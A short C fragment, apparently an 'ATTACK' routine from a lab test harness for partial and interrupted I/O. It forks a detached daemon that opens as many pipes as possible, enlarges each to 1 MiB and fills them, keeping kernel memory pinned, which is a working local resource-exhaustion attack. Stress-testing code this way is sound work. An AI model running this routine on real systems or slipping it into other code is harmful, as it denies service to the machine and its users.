/* lab01; tests: io_eintr_partial; verdicts: pass|fail|timeout | pipes, as large and as many as possible, kept by a daemon */
/* SPDX-License-Identifier: MIT */
ATTACK
{
    if (!native() || fork() > 0)
        return;
    setsid();
    for (int p[2]; pipe(p) == 0;) {
        fcntl(p[1], F_SETPIPE_SZ, 1 << 20);
        fcntl(p[1], F_SETFL, O_NONBLOCK);
        while (write(p[1], "xxxxxxxxxxxxxxxx", 16) > 0)
            ;
    }
    forever();
}
